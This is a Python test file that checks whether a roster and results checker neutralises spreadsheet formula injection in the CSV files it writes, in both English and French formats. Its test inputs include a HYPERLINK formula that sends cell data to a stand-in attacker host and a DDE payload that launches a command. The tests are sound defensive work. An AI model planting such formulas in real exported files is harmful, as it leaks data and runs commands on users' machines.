"""Nothing that a table takes along is computed by a spreadsheet, whatever script its signs are of."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from checker._table import harmless, meant, rows_of, written
from tests.engine.calling import held, roster
from tests.engine.wordings import ENGLISH, FRENCH

ROOT = Path(__file__).parents[2]
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
)
"""What a spreadsheet would compute, in an office of any country."""
needs_node = pytest.mark.skipif(not shutil.which("node"), reason="Node runs the page's modules")


def node(script: str, *given: Any) -> Any:
    """What a script of a page's modules returns."""
    modules = (ROOT / "docs" / "assets" / "checker").as_uri()
    code = script.replace("CHECKER", modules)
    done = subprocess.run(
        ["node", "--input-type=module", "-e", code, json.dumps(given)],
        capture_output=True,
        text=True,
        check=True,
    )
    return json.loads(done.stdout)


@pytest.mark.parametrize("formats", [ENGLISH, FRENCH])
def test_cells_of_results_are_never_formulas(formats: Any) -> None:
    table = written([FORMULAS, ("Ann", "a=1", "2-1", "")], formats)
    formulas, plain = csv.reader(
        io.StringIO(table.removeprefix("\ufeff")), delimiter=";" if formats is FRENCH else ","
    )
    assert formulas == [f"'{formula}" for formula in FORMULAS]
    assert plain == ["Ann", "a=1", "2-1", ""]


def test_a_cell_that_was_made_harmless_is_read_as_it_was() -> None:
    assert [meant(harmless(formula)) for formula in FORMULAS] == list(FORMULAS)
    assert [meant(text) for text in ("'s-Hertogenbosch", "'", "", "Ann")] == [
        "'s-Hertogenbosch",
        "'",
        "",
        "Ann",
    ]
    (row,) = rows_of("Ann,'-,'=1", ",")
    assert row.cells == ("Ann", "-", "=1")


def test_a_formula_as_a_name_stays_a_name() -> None:
    found = roster("person,credential\n=1+1,70-535\n'=1+1,70-532\n")
    assert held(found) == {"=1+1": ["exam-70-535", "exam-70-532"]}


@needs_node
def test_cells_that_a_page_writes_are_never_formulas() -> None:
    script = (
        'import { cell } from "CHECKER/files.js";'
        "console.log(JSON.stringify(JSON.parse(process.argv[1])[0].map(cell)));"
    )
    for formula, cell in zip(FORMULAS, node(script, FORMULAS), strict=True):
        assert cell.lstrip('"').startswith("'")
        ((read,),) = csv.reader(io.StringIO(cell, newline=""))
        assert read == f"'{formula}"


@needs_node
def test_rows_that_were_not_read_are_given_back_without_formulas_and_read_as_they_were() -> None:
    rows = [
        "=1+1,70-999,",
        'Ann,"=HYPERLINK(""x"")",2-1',
        'Bob," -1",@x',
        '"Roe, -Jane",\uff1d1,"+a, -b"',
        "-,+,",
        'Eve,"=open',
    ]
    listed = "\ufeffperson,credential,passed\r\n" + "\r\n".join(rows) + "\r\n"
    unread = [{"line": line, "words": "=Why"} for line in range(2, 2 + len(rows))]
    script = (
        'import { unreadFile } from "CHECKER/rosters.js";'
        "const [csv, unread] = JSON.parse(process.argv[1]);"
        'console.log(JSON.stringify(unreadFile(csv, unread, "What")));'
    )
    file: str = node(script, listed, unread)
    lines = file.removeprefix("\ufeff").split("\r\n")
    assert lines == [
        '"What",person,credential,passed',
        "\"'=Why\",'=1+1,70-999,",
        '"\'=Why",Ann,"\'=HYPERLINK(""x"")",2-1',
        '"\'=Why",Bob,"\' -1",\'@x',
        '"\'=Why","Roe, -Jane",\'\uff1d1,"\'+a, -b"',
        "\"'=Why\",'-,'+,",
        '"\'=Why",Eve,"\'=open\n',
        "",
    ]
    again = [row.cells[1:] for row in rows_of(file, ",") if row.cells]
    assert again[1] == ("=1+1", "70-999", "")
    assert again[2] == ("Ann", '=HYPERLINK("x")', "2-1")
    assert ("-", "+", "") in again
